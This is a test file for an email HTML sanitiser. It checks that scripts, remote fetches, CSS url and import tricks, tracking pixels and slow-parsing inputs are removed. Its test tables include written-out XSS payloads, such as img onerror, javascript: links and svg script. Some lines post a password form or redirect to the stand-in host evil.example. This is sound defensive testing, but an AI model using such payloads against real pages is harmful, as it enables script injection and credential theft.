import { describe, expect, test } from 'vitest';
import { frameDocument, type FrameLook } from './frame-document.ts';
import { sanitiseHtml } from './sanitise-html.ts';

const look: FrameLook = {
  scheme: 'dark',
  ink: 'white',
  muted: 'grey',
  canvas: 'black',
  line: 'grey',
  link: 'blue',
};

const bodyOf = (html: string, withPictures = false) => sanitiseHtml(html, withPictures).body;

/** Lists what could run a script or fetch something in a document. */
function dangers(html: string): string[] {
  const { body, css } = sanitiseHtml(html, false);
  const found: string[] = [];
  const isText = /^<div>[^<]*<\/div>$/.test(body);
  const parsed = isText ? undefined : new DOMParser().parseFromString(body, 'text/html');
  for (const element of parsed?.querySelectorAll('*') ?? []) {
    const name = element.localName;
    if (
      /^(script|iframe|object|embed|form|input|button|link|meta|base|svg|math|img|video|audio|source|template|style)$/.test(
        name,
      )
    ) {
      found.push(`<${name}>`);
    }
    for (const { name: attribute, value } of element.attributes) {
      if (
        /^on|^(src|srcset|srcdoc|action|formaction|background|poster|data|ping)$/i.test(attribute)
      ) {
        found.push(`${attribute}=${value}`);
      }
      if (attribute === 'href' && !/^(https?|mailto|tel):/i.test(value))
        found.push(`href=${value}`);
      if (attribute === 'style' && /url|import|\\/i.test(value)) found.push(`style=${value}`);
    }
  }
  if (/url\s*\(|@import|\\|</i.test(css)) found.push(`css: ${css}`);
  return found;
}

/** The parts of Node that the test needs, since its types are not for the browser's code. */
declare const process: {
  env: Record<string, string | undefined>;
  getBuiltinModule: (id: 'node:fs') => {
    existsSync: (path: string) => boolean;
    readFileSync: (path: string, encoding: 'utf8') => string;
  };
};
const { existsSync, readFileSync } = process.getBuiltinModule('node:fs');
/** Beside the repository, in whose root tests run. */
const corpus = '../shared/data/html/xss-payloads.txt';
/** All of the corpus; else one in ten. */
const isLong = process.env['LONG_TESTS'] === 'true';

describe('hostile HTML', () => {
  test.skipIf(!existsSync(corpus))(
    'nothing of a corpus of payloads is left (skipped where the corpus is absent)',
    { timeout: 240_000 },
    () => {
      const all = readFileSync(corpus, 'utf8').split('\n').filter(Boolean);
      const payloads = isLong ? all : all.filter((_, index) => index % 10 === 0);
      expect(all.length).toBeGreaterThan(6000);
      const left = payloads.flatMap((payload) =>
        dangers(payload).map((danger) => ({ payload, danger })),
      );
      expect(left).toEqual([]);
    },
  );

  test.each([
    '<img src=x onerror=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
    '<p style="background:url(https://evil.example/a.png)">x</p>',
    '<p style="background:u\\72l(https://evil.example/a.png)">x</p>',
    '<style>@import "https://evil.example/a.css"; p{background:image-set("a.png" 1x)}</style><p>x',
    '<style>/*</style><img src=x onerror=alert(1)>*/</style>',
    '<template><img src=x onerror=alert(1)></template>',
    '<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4"></video>',
  ])('%s leaves nothing that runs or fetches', (html) => {
    expect(dangers(html)).toEqual([]);
  });

  test.each([
    ['@im@import ;port "https://evil.example/a.css";p{color:red}', ''],
    ['@import url(//evil.example/a.css);p{color:red}', 'p{color:red}'],
    ['@IMPORT "a.css" screen;@font-face{src:url(a)}@namespace "a";p{color:red}', 'p{color:red}'],
    ['p{background:u/**/rl(a);color:red}', 'p{color:red}'],
    ['p{background:src("a");color:red}', 'p{color:red}'],
    ['p{background:image-set("a" 1x);color:red}', 'p{color:red}'],
    ['p{--a:url(b);background:var(--a);color:red}', 'p{color:red}'],
    ['p{cursor:url(a),auto;list-style:url(a);content:url(a);color:red}', 'p{color:red}'],
    ['p{b{background:url(a)}}i{color:red}', 'i{color:red}'],
    ['p{position:fixed;behavior:url(a);-moz-binding:url(a);color:red}', 'p{color:red}'],
    ['@media screen{@import "a";p{color:red}}', '@media screen{p{color:red}}'],
    ['@supports (color:red){p{background:url(a)}}', '@supports (color:red){p{background:none}}'],
    ['p:has(b),i{color:red}', 'i{color:red}'],
    ['p{display:grid;color:red}', 'p{color:red}'],
    ['p{display:flex;flex:1;gap:1%;color:red}', 'p{color:red}'],
    ['p{display:inline-flex}', ''],

    ['p{color:red', 'p{color:red}'],
  ])('of the style sheet %s stays %s', (css, cleaned) => {
    expect(sanitiseHtml(`<style>${css}</style><p>x`, false).css).toBe(cleaned);
  });

  test('the bounds of CSS are for all of a mail together', () => {
    const mail = (count: number) =>
      Array.from(
        { length: count },
        (_, index) => `<p style="color:red;letter-spacing:${index}px">x</p>`,
      );
    const coloured = (html: string) => sanitiseHtml(html, false).body.split('color:red').length - 1;
    expect(coloured(mail(200).join(''))).toBe(200);
    // The same style again and again costs nothing.
    expect(coloured('<p style="color:red">x</p>'.repeat(9_000))).toBe(9_000);
    expect(coloured(mail(9_000).join(''))).toBeLessThan(9_000);
  });

  test.each([
    'a,',
    'a ',
    'color;',
    'color:red;',
    'a{color:red}',
    'a{b{',
    '@media x{',
    ':not(',
    '"\n',
    '[a=',
    'a:b,',
    '}',
    'a{:nth-child(2n ',
  ])('four doublings of %j in a style sheet take in proportion', (piece) => {
    const time = (count: number) => {
      const html = `<style>a{font:${piece.repeat(count)}</style>`;
      const started = performance.now();
      sanitiseHtml(html, false);
      return performance.now() - started;
    };
    const maximum = Math.floor(190_000 / piece.length);
    time(maximum / 16);
    // A quadratic parser would take 256 times as long for sixteen times the text.
    expect(time(maximum)).toBeLessThan(Math.max(time(maximum / 16), 10) * 100);
  });

  test('a style sheet of a megabyte that never ends takes no longer than reading it', () => {
    for (const piece of ['@import{', 'url( ', '/*', '{', 'a', 'url(']) {
      const started = performance.now();
      sanitiseHtml(`<style>${piece.repeat(1_000)}</style>`, false);
      const short = performance.now() - started;
      sanitiseHtml(`<style>${piece.repeat(20_000)}</style>`, false);
      // Twenty times the text; a quadratic pattern would take four hundred times as long.
      expect(performance.now() - started - short).toBeLessThan(Math.max(short, 5) * 150);
    }
  });
});

describe('pictures', () => {
  const mail =
    '<p>a</p><img src="https://cdn.example/a.png"><img src="https://t.example/p.gif" width="1" height="1"><img src="cid:1">';

  test('are removed unless allowed; what only tracks or is not there is removed in any case', () => {
    const without = sanitiseHtml(mail, false);
    expect(without.pictures).toBe(1);
    expect(without.body).not.toContain('<img');
    expect(bodyOf(mail, true).match(/<img[^>]*>/g)).toEqual([
      expect.stringContaining('https://cdn.example/a.png'),
    ]);
  });

  test('that came with the mail are named in their places', () => {
    const named = (picture: string) =>
      new DOMParser().parseFromString(bodyOf(`<p>${picture}</p>`), 'text/html').querySelector('p');
    expect(named('<img src="cid:image001.png@01D9.A0" alt="">')?.textContent).toBe('image001.png');
    expect(named('<img src="cid:part1" alt="The team">')?.textContent).toBe('The team');
    expect(named('<img src="CID:x">')?.querySelector('[role=img]')?.textContent).toBe('Picture');
    expect(named('<img src="cid:x" alt="<b>x</b>">')?.querySelector('b')).toBeNull();
    expect(named('<img src="cid:line" width="600" height="1">')?.innerHTML).toBe('');
    expect(sanitiseHtml('<img src="cid:x">', false).pictures).toBe(0);
  });

  test('the policy of the frame agrees', () => {
    const policy = (withPictures: boolean) =>
      /Content-Security-Policy" content="([^"]*)"/.exec(
        frameDocument(sanitiseHtml(mail, withPictures), look, withPictures),
      )?.[1];
    expect(policy(false)).toBe("default-src 'none'; style-src 'unsafe-inline'; img-src 'none'");
    expect(policy(true)).toContain('img-src https: data:');
    expect(policy(true)).toContain("default-src 'none'");
  });
});

describe('what stays', () => {
  test('links open in a new tab and reveal nothing about the page', () => {
    expect(bodyOf('<a href="https://acme.example/x" target="_self" id="a">x</a>')).toBe(
      '<div><a href="https://acme.example/x" target="_blank" rel="noopener noreferrer">x</a></div>',
    );
  });

  test('styles, also from the head and the body', () => {
    const { css, body, isColoured } = sanitiseHtml(
      '<html><head><style>.a{color:red}</style></head><body bgcolor="#eee" dir="rtl"><p class="a">x</p></body></html>',
      false,
    );
    expect(css).toBe('.a{color:red}');
    expect(body).toContain('dir="rtl"');
    expect(body).toContain('background-color');
    expect(body).toContain('<p class="a">x</p>');
    expect(isColoured).toBe(true);
  });

  test('a background keeps its colour without its picture', () => {
    expect(
      bodyOf('<p style="background:#123 url(&quot;https://evil.example/a.png&quot;)">x</p>'),
    ).toBe('<div><p style="background:#123 none">x</p></div>');
  });

  test('mail without colours of its own takes those of the page, other mail gets white paper', () => {
    const schemeOf = (html: string) =>
      /name="color-scheme" content="(\w+)"/.exec(
        frameDocument(sanitiseHtml(html, false), look, false),
      )?.[1];
    expect(schemeOf('<p>Hello</p>')).toBe('dark');
    expect(schemeOf('<p style="color:black">Hello</p>')).toBe('light');
  });
});

describe('quoted text', () => {
  test.each([
    '<p>Yes.</p><div class="gmail_quote">On Tue, Ada wrote:<blockquote>Shall we?</blockquote></div>',
    '<p>Yes.</p><blockquote type="cite">Shall we?</blockquote><p> </p>',
    '<p>Yes.</p><div style="border:none;border-top:solid #E1E1E1 1.0pt"><b>From:</b> Ada</div><p>Shall we?</p>',
  ])('at the end is folded: %s', (html) => {
    const parsed = new DOMParser().parseFromString(bodyOf(html), 'text/html');
    const folded = parsed.querySelector('details');
    expect(folded?.open).toBe(false);
    expect(folded?.textContent).toContain('Shall we?');
    expect(folded?.textContent).not.toContain('Yes.');
  });

  test.each([
    '<div class="gmail_quote">Only a quotation</div>',
    '<blockquote type="cite">Shall we?</blockquote><p>Yes, and this is why.</p>',
    '<p>See below.</p><div class="gmail_quote">---------- Forwarded message ---------<br>From: Ada</div>',
  ])('that is the message itself stays open: %s', (html) => {
    expect(bodyOf(html)).not.toContain('<details');
  });
});
